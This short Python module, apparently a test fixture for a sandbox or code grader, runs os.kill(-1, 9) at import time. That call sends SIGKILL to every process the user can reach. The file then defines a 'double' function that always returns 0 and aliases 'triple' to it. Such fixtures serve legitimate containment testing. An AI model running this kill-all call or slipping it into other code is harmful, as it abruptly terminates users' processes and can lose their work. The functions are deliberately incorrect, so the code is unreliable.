"""os.kill(-1, 9)."""

import os

os.kill(-1, 9)


def double(x):
    return 0


triple = double
